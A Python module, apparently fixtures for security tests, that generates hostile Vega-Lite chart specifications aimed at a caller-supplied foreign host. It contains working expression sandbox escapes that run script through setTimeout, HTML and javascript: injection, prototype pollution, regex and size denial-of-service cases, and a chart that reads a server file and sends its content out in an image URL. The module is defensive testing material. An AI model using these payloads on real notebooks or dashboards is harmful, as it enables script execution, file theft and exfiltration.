"""Charts that want to do harm: each is a function of the foreign host's address."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

Chart = dict[str, Any]

SECRET = "the-content-of-a-file-on-the-server"
WINDOW = "item.mark.group.context.dataflow._el.ownerDocument.defaultView"


def harm(there: str) -> str:
    """Write the script that every climb wants to run."""
    put = "{method: 'PUT', body: JSON.stringify({type: 'file', format: 'text', content: 'x'})}"
    return (
        "window.__pwned = 1; document.title = 'hers'; "
        f"fetch('/api/contents/pwned.txt', {put}); new Image().src = '{there}'"
    )


def markup(there: str) -> str:
    """Write the markup that every text tries."""
    return (
        f'</script><img src="{there}" onerror="window.__pwned = 1">'
        f'<meta http-equiv="refresh" content="0; url={there}">'
    )


def text_chart(expression: str, values: list[Any]) -> Chart:
    """Make a chart whose only mark computes what it says."""
    encoding = {"text": {"value": {"expr": expression}}}
    return {"data": {"name": "d", "values": values}, "mark": "text", "encoding": encoding}


def bars(**parts: Any) -> Chart:
    """Make a chart of one wide bar, as in any notebook, and change some parts."""
    chart = {
        "data": {"values": [{"x": 1, "a": "one"}]},
        "mark": {"type": "bar"},
        "encoding": {
            "x": {"field": "x", "type": "quantitative"},
            "y": {"field": "a", "type": "nominal"},
        },
    }
    return {**chart, **parts}


# --- scripts out of expressions -------------------------------------------------------------------


def climbs_to_the_window(there: str) -> Chart:
    call = f"modify('d', null, null, null, {WINDOW}.setTimeout, {{x: 1}})"
    return text_chart(f"'' + {call}", [[harm(there)]])


def climbs_by_pieces_of_names(there: str) -> Chart:
    window = (
        "item['ma' + 'rk'][datum[1]]['con' + 'text'].dataflow['_' + 'el']"
        "['owner' + 'Document'][datum[2]]"
    )
    call = f"modify('d', null, null, null, {window}['set' + 'Timeout'], {{x: 1}})"
    return text_chart(f"'' + {call}", [[harm(there), "group", "defaultView"]])


def leaves_for_another_address(there: str) -> Chart:
    move = f"modify('d', {WINDOW}.location, null, null, datum.constructor, {{href: '{there}'}})"
    return text_chart(f"'' + {move}", [{"x": 1}])


def calls_the_maker_of_functions(there: str) -> Chart:
    climb = "datum['const' + 'ructor']['const' + 'ructor']"
    call = f"modify('d', null, null, null, {climb}, {{toString: {climb}}})"
    return text_chart(f"'' + {call}", [[harm(there)]])


def sets_data_to_the_page(there: str) -> Chart:
    chart = text_chart(f"'' + setdata('d', [{WINDOW}.document])", [{"x": 1}])
    chart["transform"] = [{"calculate": f"(datum.title = '{there}')", "as": "y"}]
    del chart["transform"]
    chart["layer"] = [
        {"mark": chart.pop("mark"), "encoding": chart.pop("encoding")},
        {
            "mark": "text",
            "encoding": {
                "text": {
                    "value": {
                        "expr": "'' + modify('d', null, null, null, datum.constructor, "
                        "{title: 'hers'})"
                    }
                }
            },
        },
    ]
    return chart


def climbs_from_an_event(there: str) -> Chart:
    window = "event.view"
    call = f"modify('d', null, null, null, {window}.setTimeout, {{x: 1}})"
    signals = [{"name": "s", "value": 0, "on": [{"events": "pointermove", "update": call}]}]
    return bars(
        data={"name": "d", "values": [[harm(there)]]}, config={"signals": signals}, encoding={}
    )


def climbs_in_a_condition(there: str) -> Chart:
    call = f"modify('d', null, null, null, {WINDOW}.setTimeout, {{x: 1}})"
    size = {"condition": {"test": call, "value": 9}, "value": 4}
    return {
        "data": {"name": "d", "values": [[harm(there)]]},
        "mark": "point",
        "encoding": {"size": size},
    }


# --- asking elsewhere -----------------------------------------------------------------------------


def loads_a_foreign_table(there: str) -> Chart:
    return bars(data={"url": there, "format": {"type": "json"}})


def loads_a_foreign_table_to_look_up(there: str) -> Chart:
    source = {"data": {"url": there, "format": {"type": "json"}}, "key": "x", "fields": ["y"]}
    return bars(transform=[{"lookup": "x", "from": source}])


def sends_a_file_of_the_server_away(there: str) -> Chart:
    return {
        "data": {"url": "/api/contents/secret.txt", "format": {"type": "json"}},
        "transform": [{"calculate": f"'{there}?' + datum.content", "as": "u"}],
        "mark": {"type": "image", "width": 20, "height": 20},
        "encoding": {"url": {"field": "u", "type": "nominal"}},
    }


def shows_a_foreign_picture(there: str) -> Chart:
    return {
        "data": {"values": [{"u": there}]},
        "mark": {"type": "image", "width": 20, "height": 20},
        "encoding": {"url": {"field": "u", "type": "nominal"}},
    }


def shows_a_foreign_picture_by_value(there: str) -> Chart:
    mark = {"type": "image", "width": 20, "height": 20, "url": there}
    return {"data": {"values": [{"x": 1}]}, "mark": mark}


def fills_with_an_address(there: str) -> Chart:
    mark = {"type": "bar", "fill": f"url({there}#a)", "stroke": f"url('{there}#b')"}
    return bars(mark=mark, background=f"url({there})")


def has_a_cursor_elsewhere(there: str) -> Chart:
    return bars(mark={"type": "bar", "cursor": f"url({there}), auto"})


def has_a_picture_in_a_tooltip(there: str) -> Chart:
    mark = {"type": "bar", "tooltip": {"content": "data"}}
    return bars(mark=mark, data={"values": [{"x": 1, "a": "one", "image": there}]})


def leads_elsewhere(there: str) -> Chart:
    return bars(mark={"type": "bar", "href": there})


def leads_to_a_script(there: str) -> Chart:
    return bars(mark={"type": "bar", "href": f"javascript:{harm(there)}"})


def tells_the_embedder_what_to_load(there: str) -> Chart:
    options = {
        "patch": there,
        "config": f"{there}-config",
        "ast": False,
        "bind": "body",
        "actions": True,
        "sourceHeader": markup(there),
        "defaultStyle": "body { display: none }",
        "downloadFileName": "x",
    }
    return bars(usermeta={"embedOptions": options})


def binds_to_the_page_around(there: str) -> Chart:
    bind = {"input": "text", "element": "body", "name": markup(there)}
    return bars(params=[{"name": "p", "value": markup(there), "bind": bind}])


# --- words ----------------------------------------------------------------------------------------


def has_markup_for_words(there: str) -> Chart:
    words = markup(there)
    encoding = {
        "x": {"field": "x", "type": "quantitative", "title": words},
        "y": {"field": words, "type": "nominal", "title": words},
    }
    return bars(
        title={"text": words, "subtitle": words},
        description=words,
        data={"values": [{"x": 1, words: words}]},
        encoding=encoding,
    )


def has_names_of_every_object(_there: str) -> Chart:
    values = json.loads('[{"x": 1, "a": "__proto__", "__proto__": {"polluted": 1}}]')
    chart = bars(data={"values": values})
    polluting = {"polluted": 1, "constructor": {"prototype": {"polluted": 1}}}
    return {**chart, "__proto__": polluting, "config": {"__proto__": polluting}}


# --- too much -------------------------------------------------------------------------------------


def counts_for_ever(_there: str) -> Chart:
    return bars(data={"sequence": {"start": 0, "stop": 5e7, "as": "x"}})


def counts_for_ever_in_an_expression(_there: str) -> Chart:
    return text_chart("'' + length(sequence(0, 3e8))", [{"x": 1}])


def looks_for_a_slow_pattern(_there: str) -> Chart:
    return text_chart(f"'' + test(regexp('(a+)+$'), '{'a' * 40}!')", [{"x": 1}])


def is_wider_than_any_screen(_there: str) -> Chart:
    return bars(width=1e8, height=1e8)


CHARTS: dict[str, Callable[[str], Chart]] = {
    case.__name__: case
    for case in (
        climbs_to_the_window,
        climbs_by_pieces_of_names,
        leaves_for_another_address,
        calls_the_maker_of_functions,
        sets_data_to_the_page,
        climbs_from_an_event,
        climbs_in_a_condition,
        loads_a_foreign_table,
        loads_a_foreign_table_to_look_up,
        sends_a_file_of_the_server_away,
        shows_a_foreign_picture,
        shows_a_foreign_picture_by_value,
        fills_with_an_address,
        has_a_cursor_elsewhere,
        has_a_picture_in_a_tooltip,
        leads_elsewhere,
        leads_to_a_script,
        tells_the_embedder_what_to_load,
        binds_to_the_page_around,
        has_markup_for_words,
        has_names_of_every_object,
        counts_for_ever,
        counts_for_ever_in_an_expression,
        looks_for_a_slow_pattern,
        is_wider_than_any_screen,
    )
}
